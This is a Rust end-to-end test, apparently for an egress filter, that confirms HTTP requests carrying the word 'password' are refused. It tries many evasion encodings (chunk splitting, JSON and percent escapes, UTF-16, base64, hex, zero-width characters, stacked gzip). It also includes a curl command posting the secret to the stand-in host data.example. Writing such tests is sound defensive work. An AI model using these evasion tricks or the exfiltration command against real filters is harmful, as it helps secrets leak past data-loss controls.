//! A word that must not leave, in forms that the documentation says are seen through, and in those
//! that cannot be read and are refused for that. Nothing is dialled for any of them.

use exeat_e2e::{Arrivals, Case, Host, arrivals_at};
use serde_json::{Value, json};

/// Ports of the host are counted apart, and no other case uses this one.
const PORT: u16 = 8443;

fn whole(headers: &str, body: &str) -> Vec<String> {
    let length = body.chars().count();
    vec![format!(
        "POST / HTTP/1.1\r\nHost: data.example:{PORT}\r\n{headers}Content-Length: {length}\r\n\r\n{body}"
    )]
}

fn chunked(chunks: &[&str]) -> Vec<String> {
    let head = format!(
        "POST / HTTP/1.1\r\nHost: data.example:{PORT}\r\nTransfer-Encoding: chunked\r\n\r\n"
    );
    let chunks = chunks.iter().map(|chunk| format!("{:x}\r\n{chunk}\r\n", chunk.len()));
    [head].into_iter().chain(chunks).chain(["0\r\n\r\n".to_owned()]).collect()
}

#[tokio::test]
async fn bypass_word_hidden_in_a_body() -> anyhow::Result<()> {
    let wide: String = "password".chars().flat_map(|one| [one, '\0']).collect();
    let attempts = [
        ("in capitals", whole("", "my PassWord"), "BodyPattern"),
        ("cut over chunks", chunked(&["my p", "a", "ss", "word"]), "BodyPattern"),
        ("a chunk a byte", chunked(&["p", "a", "s", "s", "w", "o", "r", "d"]), "BodyPattern"),
        ("escaped in JSON", whole("", r#"{"a":"p\u0061ss\u0077ord"}"#), "BodyPattern"),
        ("an escape cut over chunks", chunked(&[r#"{"a":"p\u00"#, r#"61ssword"}"#]), "BodyPattern"),
        ("percent-encoded", whole("", "a=p%61ssw%6Frd"), "BodyPattern"),
        ("a percent sign cut off", chunked(&["a=p%6", "1ssword"]), "BodyPattern"),
        ("in UTF-16", whole("", &wide), "BodyPattern"),
        ("in base64", whole("", "bXkgcGFzc3dvcmQgaXMgdGhpcw=="), "BodyPattern"),
        ("in base64 in JSON", whole("", r#"{"a":"bXkgcGFzc3dvcmQgaXMgdGhpcw=="}"#), "BodyPattern"),
        ("in hex", whole("", "6d792070617373776f7264206973"), "BodyPattern"),
        ("JSON in JSON", whole("", r#"{"a":"{\"b\":\"p\\u0061ssword\"}"}"#), "BodyPattern"),
        ("with an invisible letter", whole("", "{\"a\":\"pass\\u200bword\"}"), "BodyPattern"),
        (
            "gzip by its header",
            whole("Content-Encoding: gzip\r\n", "\u{1f}\u{8b}\u{8}\0"),
            "Encoding",
        ),
        (
            "a second coding",
            whole("Content-Encoding: identity\r\nContent-Encoding: br\r\n", "a"),
            "Encoding",
        ),
        ("a word that may be made up", whole("Content-Encoding: x-mine\r\n", "a"), "Encoding"),
    ];
    Case::run(include_str!("agent.yaml"), async |case| {
        let agent = case.agent("agent").await?;
        let before = arrived().await?;
        let jobs: Value = attempts
            .iter()
            .map(|(_, parts, _)| json!({"host": "data.example", "port": PORT, "parts": parts}))
            .collect();
        let answers: Vec<String> = agent.python(include_str!("raw.py"), &jobs).await?;
        for ((what, _, code), answer) in attempts.iter().zip(&answers) {
            let refused = answer.starts_with("HTTP/1.1 403 ") && answer.contains(code);
            anyhow::ensure!(refused, "{what}: {answer}");
        }
        let real = "printf password | gzip | gzip | curl -sS -m 5 -w '\\n%{http_code}' -H 'Content-Encoding: gzip, gzip' --data-binary @-";
        agent.sh(&format!("{real} https://data.example:{PORT}/")).await?.expect_refusal("BodyPattern")?;
        anyhow::ensure!(arrived().await? == before, "packets arrived: {:?}", arrivals_at(Host::DATA).await?);
        // Nobody listens there: that a good body is dialled for shows in the packets alone.
        agent.curl(&format!("--data harmless https://data.example:{PORT}/")).await?.expect_status("502")?;
        anyhow::ensure!(arrived().await? > before, "the counters do not count");
        Ok(())
    })
    .await
}

async fn arrived() -> anyhow::Result<u64> {
    let rows = arrivals_at(Host::DATA).await?;
    Ok(rows.iter().filter(|row| row.port == PORT).map(|row: &Arrivals| row.packets).sum())
}
